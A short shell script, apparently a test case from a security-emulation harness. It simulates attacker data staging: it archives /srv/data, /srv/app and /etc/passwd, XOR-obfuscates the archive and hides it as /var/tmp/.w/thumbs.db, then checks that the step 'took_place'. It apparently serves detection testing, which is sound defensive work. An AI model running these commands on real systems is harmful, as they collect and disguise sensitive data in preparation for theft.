#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.w
perl -e '
open my $tar, "-|", "tar", "cz", "-C", "/", "srv/data", "srv/app", "etc/passwd"; local $/; my $body = <$tar>;
my ($x, $out) = (7, "");
$out .= chr(ord($_) ^ ($x = ($x * 5 + 13) % 256)) for split //, $body;
open my $to, ">", "/var/tmp/.w/thumbs.db"; print $to $out; exit !length $out'
test -s /var/tmp/.w/thumbs.db
took_place
